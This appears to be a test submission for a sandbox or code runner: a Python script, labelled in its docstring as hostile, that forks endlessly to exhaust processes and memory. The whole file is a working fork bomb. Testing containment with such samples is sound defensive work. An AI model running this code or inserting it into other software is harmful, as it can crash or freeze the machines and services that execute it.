"""Hostile submission: a fork bomb. Every process forks for ever (Python, so every copy also
dirties its own pages: the run runs out of processes and of memory)."""

import os

if __name__ == "__main__":
    while True:
        os.fork()
